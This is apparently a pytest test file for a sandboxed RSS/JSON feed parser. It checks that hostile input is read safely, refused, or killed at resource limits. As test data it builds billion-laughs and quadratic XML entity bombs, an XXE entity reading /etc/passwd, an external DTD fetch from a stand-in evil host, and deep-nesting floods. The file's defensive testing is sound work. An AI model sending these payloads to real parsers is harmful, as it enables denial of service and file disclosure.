"""Bytes made to hang or swell whoever reads them are read, or refused, and the worker goes on."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tasks.formats import NotAFeed, ParseFailed, ParseKilled, guarded, parse, parse_guarded
from tasks.formats.guarded import _keeper

URL = "https://paper.example/feed"


def rss(items: str, head: str = "") -> bytes:
    ns = 'xmlns:dc="http://purl.org/dc/elements/1.1/"'
    return (
        f'<?xml version="1.0"?><rss version="2.0" {ns}><channel><title>T</title>{head}{items}</channel></rss>'.encode()
    )


def item(inside: str = "") -> str:
    return f"<item><title>A</title><guid>1</guid>{inside}</item>"


def bomb(kind: str) -> bytes:
    """Write the entity bombs that XML readers fear."""
    tenfold = [f"&a{n};" * 10 for n in range(12)]
    laughs = "".join(f'<!ENTITY a{n + 1} "{ten}">' for n, ten in enumerate(tenfold))
    declared = {
        "laughs": f'<!ENTITY a0 "lol">{laughs}',
        "quadratic": f'<!ENTITY a12 "{"a" * 100_000}">',
        "file": '<!ENTITY a12 SYSTEM "file:///etc/passwd">',
        "parameter": '<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;',
    }[kind]
    uses = "&a12;" * (10_000 if kind == "quadratic" else 1)
    head, _, rest = rss(item(f"<description>{uses}</description>")).partition(b"?>")
    return head + b"?><!DOCTYPE r [" + declared.encode() + b"]>" + rest


# Each text stands once in a sound item and once in one that is malformed and would go to feedparser.
INSIDE = {
    "an author address of 39 kB": lambda: f"<author>{'a@' + 'a.' * 19_500}</author>",
    "a creator address of 39 kB": lambda: f"<dc:creator>{'a@' + 'a.' * 19_500}</dc:creator>",
    "50,000 comment starts": lambda: f"<description><![CDATA[{'<!--' * 50_000}]]></description>",
    "100,000 escaped comment starts": lambda: f"<description>{'&lt;!--' * 100_000}</description>",
    "a style of 50 kB": lambda: f'<description><![CDATA[<p style="{"a" * 50_000}!">]]></description>',
    "50,000 attributes": lambda: "<x " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>",
    "nesting 100,000 deep": lambda: "<a>" * 100_000 + "</a>" * 100_000,
    "10 MB of text": lambda: f"<description>{'words, words ' * 800_000}</description>",
    "100,000 categories": lambda: "<category>a</category>" * 50_000,
    "100,000 authors": lambda: "<author>a@b.example (x)</author>" * 50_000,
    "20,000 namespaces": lambda: "".join(f'<p{n}:x xmlns:p{n}="urn:{n}"/>' for n in range(20_000)),
    "300,000 references": lambda: f"<description>{'&amp;amp;' * 150_000}</description>",
    "a title of brackets": lambda: f"<title>{'&lt;a ' * 100_000}</title>",
    "a title of comments": lambda: f"<title>{'&lt;!--' * 100_000}</title>",
}


@pytest.mark.parametrize("inside", INSIDE)
@pytest.mark.parametrize("ending", ["", "</x>"], ids=["sound", "malformed"])
def test_an_item_that_feedparser_would_choke_on_is_read(inside: str, ending: str) -> None:
    found = parse_guarded(rss(item(INSIDE[inside]() + ending) + item()), content_type=None, url=URL)
    assert [one.headline for one in found.entries][-1] == "A"
    assert len(found.entries) == 2


@pytest.mark.parametrize("kind", ["laughs", "quadratic", "file", "parameter"])
def test_an_entity_of_the_documents_own_is_neither_expanded_nor_fetched(kind: str) -> None:
    found = parse_guarded(bomb(kind), content_type=None, url=URL)
    (entry,) = found.entries
    assert entry.headline == "A"
    assert entry.teaser is not None
    assert entry.teaser.value == "&a12;" * (10_000 if kind == "quadratic" else 1)


REFUSED = {
    "a million open items": lambda: rss("<item>" * 1_000_001),
    "two million empty items": lambda: rss("<item/>" * 1_000_001),
    "a million comments": lambda: rss("<!---->" * 1_000_001),
    "brackets of a declaration": lambda: b"<!DOCTYPE x [" + b"[<" * 1_000_001,
    "JSON a million deep": lambda: b"[" * 1_000_001,
    "JSON a million wide": lambda: (
        b'{"version":"https://jsonfeed.org/version/1","items":[' + b"{}," * 1_000_001 + b"{}]}"
    ),
    "declarations that go nowhere": lambda: b"<rss>" + b"<!h" * 1_000_001,
    "feeds that never close": lambda: b"<rss><channel><item>" + b"<a>" * 200_000,
}


@pytest.mark.parametrize("flood", REFUSED)
def test_more_markup_than_a_feed_can_have_is_refused(flood: str) -> None:
    try:
        found = parse_guarded(REFUSED[flood](), content_type=None, url=URL)
    except ParseFailed:
        return
    assert not found.entries


NO_FEEDS = {
    "32 MB of a letter": lambda: b"x" * 32_000_000,
    "8 MB of nothing": lambda: b"\0" * 8_000_000,
    "a page of a million tags": lambda: b"<!doctype html><html>" + b"<div>" * 1_000_001,
    "800,000 declarations": lambda: b"<!DOCTYPE " * 800_000,
    "a number of 4 MB in JSON": lambda: (
        b'{"version":"https://jsonfeed.org/version/1","items":[{"id":' + b"9" * 4_000_000 + b"}]}"
    ),
}


@pytest.mark.parametrize("flood", NO_FEEDS)
def test_a_flood_that_is_no_feed_is_named_as_such(flood: str) -> None:
    with pytest.raises(NotAFeed):
        parse_guarded(NO_FEEDS[flood](), content_type=None, url=URL)


def test_a_feed_of_a_hundred_thousand_items_gives_the_first_five_thousand_and_says_so() -> None:
    found = parse_guarded(rss(item() * 20_000), content_type=None, url=URL)
    assert len(found.entries) == 5_000
    assert found.notes == ("items beyond the first 5000 left unread",)
    assert found.reader == "xml"


def test_malformed_items_by_the_thousand_are_all_read() -> None:
    found = parse_guarded(rss(item("</x>") * 1_000), content_type=None, url=URL)
    assert len(found.entries) == 1_000


# --- the child ---------------------------------------------------------------------------------------------------


MALFORMED = rss("<item><title>Q & A: <b>bold</title></item>")
FLOOD = rss(item(f"<description>{'& ' * 2_000_000}</description>"))
BIG = rss(item(f"<description>{'& ' * 250_000}</description>"))


def child_pid() -> int:
    assert _keeper._process is not None
    return _keeper._process.pid


def test_a_malformed_item_is_read_in_the_child_and_the_child_stays_for_the_next() -> None:
    assert parse_guarded(MALFORMED, content_type=None, url=URL).entries[0].headline == "Q & A: bold"
    first = child_pid()
    assert parse_guarded(MALFORMED, content_type=None, url=URL).entries[0].headline == "Q & A: bold"
    assert child_pid() == first != os.getpid()


def test_a_child_that_died_is_replaced() -> None:
    parse_guarded(MALFORMED, content_type=None, url=URL)
    first = child_pid()
    os.kill(first, signal.SIGKILL)
    _keeper._process.wait()
    assert parse_guarded(MALFORMED, content_type=None, url=URL).entries[0].headline == "Q & A: bold"
    assert child_pid() != first


def test_a_document_that_takes_too_much_cpu_is_refused_and_the_next_one_is_read() -> None:
    with pytest.raises(ParseKilled, match="CPU"):
        parse_guarded(FLOOD, content_type=None, url=URL, cpu_seconds=0.001)
    assert parse_guarded(MALFORMED, content_type=None, url=URL).entries


def test_a_document_that_takes_too_much_memory_is_refused_and_the_next_one_is_read() -> None:
    with pytest.raises(ParseKilled):
        parse_guarded(FLOOD, content_type=None, url=URL, memory_bytes=8_000_000)
    assert parse_guarded(MALFORMED, content_type=None, url=URL).entries


def test_an_item_without_time_left_for_feedparser_is_recovered() -> None:
    found = parse_guarded(MALFORMED, content_type=None, url=URL, cpu_seconds=0)
    assert [one.headline for one in found.entries] == ["Q & A: bold"]


def test_the_child_gives_the_same_as_the_worker_itself() -> None:
    for body in (MALFORMED, BIG):
        assert parse_guarded(body, content_type=None, url=URL) == parse(body, content_type=None, url=URL)
    hashes = {one.raw_sha256 for one in parse(BIG, content_type=None, url=URL).entries}
    assert parse_guarded(BIG, content_type=None, url=URL, seen=hashes).skipped == tuple(hashes)


def test_the_child_knows_no_secret_of_the_worker(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WIREROOM_DATABASE_URL", "postgresql://desk:hunter2@db/wireroom")
    assert "hunter2" not in json.dumps(guarded._environment())
    guarded.stop()
    parse_guarded(MALFORMED, content_type=None, url=URL)
    environment = Path(f"/proc/{child_pid()}/environ")
    assert not environment.exists() or b"hunter2" not in environment.read_bytes()


def test_what_the_child_refuses_is_raised_whole() -> None:
    with pytest.raises(NotAFeed) as caught:
        parse_guarded(b"x" * 5_000_000, content_type=None, url=URL)
    assert caught.value.looks_like == "text"


def test_a_daemonic_process_such_as_a_prefork_worker_has_a_child_of_its_own() -> None:
    """In a process of its own without threads, because this one may have some and forking it would be unsafe."""
    script = (
        "import multiprocessing, tasks.formats as f\n"
        "B = b'<rss version=\"2.0\"><channel><item><title>Q & A: <b>bold</title></item></channel></rss>'\n"
        "def read(q): q.put(f.parse_guarded(B, content_type=None, url='https://paper.example/').entries[0].headline)\n"
        "if __name__ == '__main__':\n"
        "    f.parse_guarded(B, content_type=None, url='https://paper.example/')\n"
        "    c = multiprocessing.get_context('fork'); q = c.Queue()\n"
        "    p = c.Process(target=read, args=(q,), daemon=True); p.start(); print(q.get(timeout=60)); p.join()\n"
        "    print(f.parse_guarded(B, content_type=None, url='https://paper.example/').entries[0].headline)\n"
    )
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", script], capture_output=True, text=True, timeout=90, check=True
    )
    assert done.stdout.split("\n")[:2] == ["Q & A: bold"] * 2
    assert not done.stderr
